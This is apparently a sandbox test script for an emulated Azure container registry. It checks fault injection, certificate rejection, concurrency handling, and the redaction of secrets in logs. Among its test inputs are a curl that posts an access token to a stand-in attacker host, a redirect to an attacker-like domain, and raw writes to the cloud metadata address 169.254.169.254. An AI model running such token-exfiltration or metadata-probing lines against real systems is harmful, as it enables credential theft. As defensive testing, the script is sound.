#!/bin/bash
# fault_test.sh, to be run in the sandbox: faults do what they are ordered to, and nothing a client does stops the emulator.
set -uo pipefail
here=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=control.sh
. "$here/control.sh"
# shellcheck source=checks.sh
. "$here/checks.sh"
url=https://contoso.azurecr.io/v2/
# ask [CURL-ARGUMENT…] URL. What is not waited for in vain may take its time.
ask() { curl -s -o "$TMPDIR/body" -w '%{http_code} %{exitcode}' --max-time 20 "$@"; }

reset_emulator
fault '[{"service": "acr.challenge", "times": 2, "status": 429, "headers": {"Retry-After": "1"}, "body": "slow down"},
        {"service": "acr.challenge", "status": 503}]'
is "faults come in order, as often as ordered, and then stop" "429 0, 429 0, 503 0, 401 0" \
  "$(ask $url), $(ask $url), $(ask $url), $(ask $url)"
fault '[{"service": "acr.challenge", "status": 302, "headers": {"Location": "https://azurecr.io.attacker.example/"}}]'
is "headers are sent" https://azurecr.io.attacker.example/ "$(curl -s -o /dev/null -w '%{redirect_url}' $url)"
fault '[{"service": "acr.challenge", "action": "silence"}]'
is "silence: no byte until the client gives up" "000 28" "$(ask --max-time 2 $url)"
fault '[{"service": "acr.challenge", "action": "reset"}]'
is "reset: the connection breaks" 000 "$(ask $url | cut -d' ' -f1)"
fault '[{"service": "acr.challenge", "action": "truncate"}]'
is "truncate: half of the service's own answer" "401 18" "$(ask $url)"
fault '[{"service": "acr.challenge", "action": "drip", "interval_ms": 100}]'
is "drip: a byte now and then" "000 28" "$(ask --max-time 2 $url)"
fault '[{"service": "acr.challenge", "delay_ms": 700}]'
is "delay: the service's own answer, later" "401 1" "$(curl -s -o /dev/null -w '%{http_code} %{time_total}' $url | awk '{print $1, ($2 > 0.6)}')"
fault '[{"service": "acr.challenge", "status": 200, "body_size": 50000000}]'
is "body_size: a body of that size" "200 50000000" "$(curl -s -o /dev/null -w '%{http_code} %{size_download}' $url)"
fault '[{"service": "acr.challenge", "host": "fabrikam.azurecr.io", "status": 500}]'
is "a fault may be for one host" "401 0, 500 0" "$(ask $url), $(ask https://fabrikam.azurecr.io/v2/)"
fault '[{"service": "acr.challenge", "times": -1, "status": 500}]'
is "times -1: until the reset" "500 0, 500 0, 401 0" "$(ask $url), $(ask $url), $(reset_emulator; ask $url)"
setting '{"latency_ms": {"acr.challenge": 300}}'
is "latency of a service" 1 "$(curl -s -o /dev/null -w '%{time_total}' $url | awk '{print ($1 > 0.3)}')"
is "an unknown service is refused" 400 "$(curl -s -o /dev/null -w '%{http_code}' -d '[{"service": "typo"}]' "$EMULATOR_CONTROL/faults")"

reset_emulator
for kind in expired wrong-host self-signed untrusted; do
  setting "{\"certificates\": {\"contoso.azurecr.io\": \"$kind\"}}"
  is "certificate $kind is not trusted" "000 60" "$(ask $url)"
done
is "… while another host's is" "401 0" "$(ask https://fabrikam.azurecr.io/v2/)"

reset_emulator
curl -s -o /dev/null -d grant_type=access_token -d access_token=very-secret https://evil.azurecr.io.attacker.example/oauth2/exchange
is "what goes to a foreign host is in the log" "evil.azurecr.io.attacker.example POST /oauth2/exchange sha256" \
  "$(emulator_log | jq -r '.[] | select(.service == "unknown") | "\(.host) \(.method) \(.target) \(.form.access_token[:6])"')"
is "… without the secret" 0 "$(emulator_log | grep -c very-secret)"
curl -s -o /dev/null -u user:very-secret https://contoso.azurecr.io/v2/
is "… nor that of a header" "Basic sha256" "$(emulator_log | jq -r '.[-1].headers.Authorization[:12]')"
curl -s -o /dev/null --noproxy '*' -H 'Proxy-Authorization: Basic very-secret' https://contoso.azurecr.io/v2/
is "… nor that of one that is a proxy's, though it is seen" sha256: "$(emulator_log | jq -r '.[-1].headers["Proxy-Authorization"][:7]')"

reset_emulator
parallel_asks() {
  for _ in {1..200}; do echo $url; done | xargs -P 100 -n 1 curl -s -o /dev/null -w '%{http_code}\n' --max-time 120 | sort | uniq -c | tr -s ' '
}
is "200 clients, 100 at once" " 200 401" "$(parallel_asks)"
is "… all counted" 200 "$(counter acr.challenge)"
for _ in {1..20}; do
  head -c 5000 /dev/urandom > /dev/tcp/127.0.0.1/443
  head -c 5000 /dev/urandom > /dev/tcp/169.254.169.254/80
  printf 'GET /metadata HTTP/1.1\r\nHost' > /dev/tcp/169.254.169.254/80
  (head -c 5000 /dev/urandom; sleep 0.05) | openssl s_client -quiet -connect contoso.azurecr.io:443
  curl -s --max-time 0.01 -o /dev/null $url
  curl -s --max-time 1 -o /dev/null -d 'a=%&%zz=%4&=&&&===' -H 'Authorization: Bearer ...' https://contoso.azurecr.io/oauth2/exchange
  curl -s --max-time 1 -o /dev/null -d '[1,{"service":1},{"service":"arm","times":"x"}]' "$EMULATOR_CONTROL/faults"
  curl -s --max-time 1 -o /dev/null -d '{"clock_offset":"x"}' "$EMULATOR_CONTROL/settings"
done > /dev/null 2>&1
is "garbage and early leavers do no harm" "401 0" "$(ask $url)"

finish
